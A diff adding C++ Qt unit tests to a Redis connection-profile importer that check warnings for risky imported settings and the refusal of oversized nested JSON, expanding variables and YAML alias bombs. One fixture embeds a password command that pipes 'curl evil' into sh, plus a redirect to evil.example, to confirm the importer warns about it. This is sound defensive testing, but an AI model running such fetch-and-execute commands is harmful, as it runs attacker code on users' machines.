@@ -2,6 +2,7 @@
 // that was understood.
 #include "profiles/exchange.h"
 #include "profiles/importer.h"
+#include "profiles/importing/draft.h"
 #include <QElapsedTimer>
 #include <QJsonArray>
 #include <QJsonDocument>
@@ -590,6 +591,78 @@ private Q_SLOTS:
             QVERIFY(!import.error().text.isEmpty());
         else
             QVERIFY(import->candidates.size() <= 500);
+    }
+
+    void ownExport_warnsOfWhatItBringsAlong()
+    {
+        const auto import = profiles::readImport(
+            quotes("{'larder': 1, 'profiles': [{'name': 'prod', 'host': 'prod.example',"
+                   "'authentication': 'password', 'passwordSource': 'command',"
+                   "'passwordCommand': ['sh', '-c', 'curl \\'evil\\'|sh', 'a\\nb'],"
+                   "'addressMap': {'prod.example:6379': 'evil.example:1'},"
+                   "'allowDangerous': true, 'tls': {'enabled': true, 'verify': false,"
+                   "'certificateFile': '/c.pem', 'keyFile': '/k.pem'},"
+                   "'topology': 'sentinel', 'seeds': ['s.example:26379']}]}"));
+        QVERIFY2(import, import ? "" : qPrintable(import.error().text));
+        QCOMPARE(import->candidates.size(), 1);
+        const QList<Found> &found = import->candidates.first().found;
+        const auto warnings = foundOf(*import, Found::Kind::Warning);
+        QCOMPARE(warnings.size(), 4);
+        QCOMPARE(found.first().value,
+                 QStringLiteral("This connection runs a program on this computer: \"sh\" \"-c\" "
+                                "\"curl \\\"evil\\\"|sh\" \"a\\u000ab\""));
+        QVERIFY(found[1].value.contains(QLatin1String("\"evil.example:1\"")));
+        QStringList stated;
+        for (const Found &each : found)
+            stated += each.value;
+        for (const char *file : { "/c.pem", "/k.pem", "s.example:26379" })
+            QVERIFY2(stated.contains(QLatin1String(file)), file);
+    }
+
+    void unverifiedTls_isAWarningInAnyFormat()
+    {
+        const auto import = profiles::readImport("redis-cli --tls --insecure -h h.example");
+        QVERIFY(import.has_value());
+        QCOMPARE(import->candidates.size(), 1);
+        QCOMPARE(foundOf(*import, Found::Kind::Warning).size(), 1);
+    }
+
+    void valuesThatMultiplyEachOther_endSoon()
+    {
+        QHash<QString, QString> none;
+        profiles::importing::Context context({}, none);
+        for (char name = 'A'; name < 'H'; ++name)
+            context.define(QString(QLatin1Char(name)),
+                           QStringLiteral("${%1}").arg(QLatin1Char(char(name + 1))).repeated(60));
+        QStringList missing;
+        const QString value = context.resolved(QStringLiteral("${A}"), missing);
+        QVERIFY(value.size() <= 64 * 1024);
+        // What is left stays as written, for this value and for the next.
+        QCOMPARE(context.resolved(QStringLiteral("${J}"), missing), QStringLiteral("${J}"));
+    }
+
+    void namesThatGrowByNesting_areRefused()
+    {
+        const QByteArray key(180, 'k');
+        const QByteArray many = QByteArray("1,").repeated(100'000) + "1";
+        const QByteArray json =
+            "{" + ('"' + key + "\":{").repeated(10) + "\"a\":[" + many + "]" + QByteArray(11, '}');
+        const profiles::importing::Context context(QString::fromUtf8(json), {});
+        QVERIFY(!profiles::importing::readLiteral(context, 0));
+        const QByteArray longer =
+            "{" + ('"' + key + "\":{").repeated(12) + "\"a\":1" + QByteArray(13, '}');
+        const profiles::importing::Context deep(QString::fromUtf8(longer), {});
+        QVERIFY(!profiles::importing::readLiteral(deep, 0));
+    }
+
+    void namesThatGrowByAliases_areRefusedOverAllDocuments()
+    {
+        const QByteArray key(180, 'k');
+        const QByteArray document = "---\n" + ("{" + key + ": ").repeated(10) + "[&a ["
+            + QByteArray("x,").repeated(50) + "x]" + QByteArray(", *a").repeated(40) + "]"
+            + QByteArray(10, '}') + "\n";
+        QVERIFY(profiles::importing::readYaml(QString::fromUtf8(document)).has_value());
+        QVERIFY(!profiles::importing::readYaml(QString::fromUtf8(document.repeated(10))));
     }
 
     void tooMuch_isRefusedAtOnce()
